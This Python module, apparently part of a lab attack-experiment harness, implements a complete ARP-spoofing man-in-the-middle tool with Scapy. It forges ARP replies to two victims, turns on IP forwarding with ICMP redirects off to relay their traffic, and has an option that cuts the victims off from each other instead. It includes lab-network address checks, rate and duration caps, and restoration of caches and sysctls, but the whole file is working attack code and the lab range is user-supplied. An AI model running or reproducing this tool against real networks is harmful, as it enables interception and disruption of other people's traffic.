"""ARP-spoofing man-in-the-middle with Scapy: poison two victims, forward their traffic, restore.

Run inside the attacker's lab host (root, its own network namespace):
    python -m experiments.attacks.arpspoof --iface server2-eth0 --lab-net 10.0.1.0/24 \
        --victim lb1=10.0.1.10 --victim server1=10.0.1.11 --duration 10 --log arp.jsonl

Each victim is told, by a unicast ARP reply (`B is-at <attacker MAC>`), that the other victim's
address is at the attacker; `--rate` rounds a second (at most 10), for at most `--duration` seconds
(at most 600). The attacker's kernel forwards what it receives (net.ipv4.ip_forward=1, ICMP
redirects off, so the victims are not told the shorter way), and the site keeps working. At the end
(duration, SIGTERM, SIGINT) the victims get the true bindings again, several times over more than
Linux's one-second ARP lock time, and the sysctls get their old values back: both are per network
namespace, so nothing outside this host changes, and nothing of the attack outlives it.
Every address is checked against the lab networks (--lab-net) before anything is sent.
"""
from __future__ import annotations

import argparse
import ipaddress
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

try:
    from experiments.attacks.events import EventLog, fail, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError
except ImportError:  # run by file path
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    from experiments.attacks.events import EventLog, fail, stop_on_signals
    from experiments.attacks.guard import AddressGuard, GuardError

MAX_RATE = 10.0         # poison rounds per second
MAX_DURATION = 600.0    # seconds
RESTORE_ROUNDS = 5      # true bindings sent this many times ...
RESTORE_INTERVAL = 0.4  # ... this far apart: 2 s, beyond Linux's 1 s neighbour lock time
BROADCAST = "ff:ff:ff:ff:ff:ff"
OP_REQUEST, OP_REPLY = 1, 2


@dataclass(frozen=True)
class Station:
    """A host on the link: a name for people, its IPv4 address and its (true) MAC."""

    name: str
    ip: str
    mac: str


def poison_frames(a: Station, b: Station, my_mac: str) -> list[Any]:
    """The two lies of one round: to a, 'b's address is at my MAC'; to b, 'a's address is at my MAC'."""
    from scapy.layers.l2 import ARP, Ether
    return [Ether(src=my_mac, dst=victim.mac) /
            ARP(op=OP_REPLY, hwsrc=my_mac, psrc=other.ip, hwdst=victim.mac, pdst=victim.ip)
            for victim, other in ((a, b), (b, a))]


def restore_frames(a: Station, b: Station, my_mac: str) -> list[Any]:
    """The truth, to each victim: 'the other's address is at its own MAC' (sent from my port)."""
    from scapy.layers.l2 import ARP, Ether
    return [Ether(src=my_mac, dst=victim.mac) /
            ARP(op=OP_REPLY, hwsrc=other.mac, psrc=other.ip, hwdst=victim.mac, pdst=victim.ip)
            for victim, other in ((a, b), (b, a))]


def who_has(ip: str, my_mac: str, my_ip: str) -> Any:
    """A broadcast ARP request for ip (how the attacker learns a victim's true MAC)."""
    from scapy.layers.l2 import ARP, Ether
    return Ether(src=my_mac, dst=BROADCAST) / ARP(op=OP_REQUEST, hwsrc=my_mac, psrc=my_ip, pdst=ip)


class Sysctls:
    """Forwarding on, ICMP redirects off, in this network namespace; restore() puts the old values back."""

    def __init__(self, iface: str, root: Path = Path("/proc/sys")):
        self.root = Path(root)
        self.keys = ("net/ipv4/ip_forward", "net/ipv4/conf/all/send_redirects",
                     f"net/ipv4/conf/{iface}/send_redirects")
        self.wanted = dict(zip(self.keys, ("1", "0", "0")))
        self.saved: dict[str, str] = {}

    def read(self) -> dict[str, str]:
        """The current values."""
        return {k: (self.root / k).read_text().strip() for k in self.keys}

    def apply(self) -> dict[str, str]:
        """Save the current values, then set the attack's; returns what was saved."""
        self.saved = self.read()
        for key, value in self.wanted.items():
            (self.root / key).write_text(value + "\n")
        return dict(self.saved)

    def restore(self) -> dict[str, str]:
        """Write the saved values back (idempotent); returns the values read afterwards."""
        for key, value in self.saved.items():
            (self.root / key).write_text(value + "\n")
        return self.read() if self.saved else {}


def iface_addresses(iface: str) -> tuple[str, str, ipaddress.IPv4Interface]:
    """(MAC, IPv4 address, interface with prefix) of iface, read from the kernel."""
    mac = Path("/sys/class/net", iface, "address").read_text().strip()
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", iface], capture_output=True,
                         text=True, timeout=5).stdout.split()
    if "inet" not in out:
        raise GuardError(f"{iface} has no IPv4 address")
    intf = ipaddress.IPv4Interface(out[out.index("inet") + 1])
    return mac, str(intf.ip), intf


def resolve(ip: str, iface: str, my_mac: str, my_ip: str, timeout: float = 1.0, tries: int = 3) -> str | None:
    """The true MAC of ip, asked on the wire (bounded: tries x timeout)."""
    from scapy.all import srp
    for _ in range(tries):
        answered, _ = srp(who_has(ip, my_mac, my_ip), iface=iface, timeout=timeout, verbose=0)
        for _, reply in answered:
            return str(reply.hwsrc).lower()
    return None


class Spoofer:
    """The poisoning loop in a thread; stop() ends it and restores the victims' caches."""

    def __init__(self, iface: str, a: Station, b: Station, my_mac: str, rate: float, log: EventLog,
                 send: Callable[[list[Any]], None] | None = None):
        if not 0 < rate <= MAX_RATE:
            raise GuardError(f"--rate {rate:g}: must be in (0, {MAX_RATE:g}] rounds a second")
        self.iface, self.a, self.b, self.my_mac, self.rate, self.log = iface, a, b, my_mac, rate, log
        self._send = send or self._sendp
        self.stop_event = threading.Event()
        self.thread = threading.Thread(target=self._loop, name="arp-poison", daemon=True)
        self.rounds = 0
        self.restored = False

    def _sendp(self, frames: list[Any]) -> None:
        from scapy.all import sendp
        sendp(frames, iface=self.iface, verbose=0)

    def start(self) -> "Spoofer":
        self.thread.start()
        return self

    def _loop(self) -> None:
        interval = 1.0 / self.rate
        next_at = time.monotonic()
        while not self.stop_event.is_set():
            self._send(poison_frames(self.a, self.b, self.my_mac))
            self.rounds += 1
            self.log("poison", round=self.rounds, frames=2 * self.rounds,  # at most MAX_RATE lines a second
                     told={self.a.name: f"{self.b.ip} is-at {self.my_mac}",
                           self.b.name: f"{self.a.ip} is-at {self.my_mac}"})
            next_at += interval
            self.stop_event.wait(max(0.0, next_at - time.monotonic()))

    def stop(self, rounds: int = RESTORE_ROUNDS, interval: float = RESTORE_INTERVAL) -> None:
        """End the poisoning, then tell both victims the truth `rounds` times (bounded, idempotent)."""
        self.stop_event.set()
        if self.thread.is_alive():
            self.thread.join(timeout=5)
        if self.restored:
            return
        self.log("poison_stopped", rounds=self.rounds, frames=2 * self.rounds)
        for i in range(rounds):
            self._send(restore_frames(self.a, self.b, self.my_mac))
            if i + 1 < rounds:
                time.sleep(interval)  # spaced beyond the victims' neighbour lock time, not a readiness wait
        self.restored = True
        self.log("restored", rounds=rounds,
                 told={self.a.name: f"{self.b.ip} is-at {self.b.mac}", self.b.name: f"{self.a.ip} is-at {self.a.mac}"})


def parse_victim(text: str) -> tuple[str, str]:
    """NAME=ADDRESS (or a bare ADDRESS) -> (name, address)."""
    name, sep, address = text.partition("=")
    return (name, address) if sep else (text, text)


@dataclass
class Setup:
    """What a man-in-the-middle start found: the attacker's own addresses and the two victims."""

    iface: str
    my_mac: str
    my_ip: str
    a: Station
    b: Station


def prepare(iface: str, guard: AddressGuard, victims: list[str], log: EventLog,
            macs: dict[str, str] | None = None) -> Setup:
    """Check every address against the guard, learn the victims' true MACs; GuardError if refused."""
    if len(victims) != 2:
        raise GuardError("exactly two --victim NAME=ADDRESS are needed")
    my_mac, my_ip, _ = iface_addresses(iface)
    guard.check_own(my_ip, iface)
    (na, ia), (nb, ib) = (parse_victim(v) for v in victims)
    guard.same_network(my_ip, ia, ib)
    if my_ip in (ia, ib) or ia == ib:
        raise GuardError(f"the victims must be two other hosts ({ia}, {ib}; this host is {my_ip})")
    found = {}
    for name, ip in ((na, ia), (nb, ib)):
        mac = (macs or {}).get(ip) or resolve(ip, iface, my_mac, my_ip)
        if mac is None:
            raise GuardError(f"{name} ({ip}) does not answer ARP on {iface}: is it on this link?")
        found[name] = Station(name, ip, mac)
    log("setup", iface=iface, mac=my_mac, ip=my_ip, victims={n: {"ip": s.ip, "mac": s.mac} for n, s in found.items()})
    return Setup(iface, my_mac, my_ip, found[na], found[nb])


def add_common_args(ap: argparse.ArgumentParser) -> None:
    """The arguments every man-in-the-middle tool takes."""
    ap.add_argument("--iface", required=True, help="the attacker's interface on the victims' link")
    ap.add_argument("--lab-net", action="append", default=[], required=True,
                    help="a lab network (CIDR); every address must be inside one (repeat)")
    ap.add_argument("--victim", action="append", default=[], required=True,
                    help="NAME=ADDRESS of a victim (exactly two)")
    ap.add_argument("--duration", type=float, required=True, help=f"seconds (at most {MAX_DURATION:g})")
    ap.add_argument("--rate", type=float, default=2.0, help=f"poison rounds a second (at most {MAX_RATE:g})")
    ap.add_argument("--no-forward", action="store_true",
                    help="leave ip_forward alone (the victims then lose each other: a denial of service)")
    ap.add_argument("--log", help="JSON-lines event log (raw data)")


def check_duration(duration: float) -> None:
    if not 0 < duration <= MAX_DURATION:
        raise GuardError(f"--duration {duration:g}: must be in (0, {MAX_DURATION:g}] seconds")


def main(argv: list[str] | None = None) -> int:
    """Poison, forward, and undo it all at the end."""
    ap = argparse.ArgumentParser(prog="python -m experiments.attacks.arpspoof",
                                 description=__doc__.splitlines()[0])
    add_common_args(ap)
    a = ap.parse_args(argv)
    stream = open(a.log, "a", encoding="utf-8") if a.log else None
    log = EventLog(stream, sys.stdout)
    try:
        check_duration(a.duration)
        guard = AddressGuard(a.lab_net)
        setup = prepare(a.iface, guard, a.victim, log)
        spoofer = Spoofer(a.iface, setup.a, setup.b, setup.my_mac, a.rate, log)
    except GuardError as err:
        log("refused", reason=str(err))
        return fail(str(err))
    stop = stop_on_signals()
    sysctls = Sysctls(a.iface)
    try:
        if not a.no_forward:
            log("sysctl_set", before=sysctls.apply(), now=sysctls.read())
        spoofer.start()
        log.say(f"poisoning {setup.a.name} and {setup.b.name} for {a.duration:g} s "
                f"({a.rate:g} rounds/s); Ctrl-C stops and restores")
        stop.wait(a.duration)
    finally:
        spoofer.stop()
        if not a.no_forward:
            log("sysctl_restored", now=sysctls.restore())
        log("stopped")
        log.say("stopped: caches restored, forwarding as before")
        if stream:
            stream.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
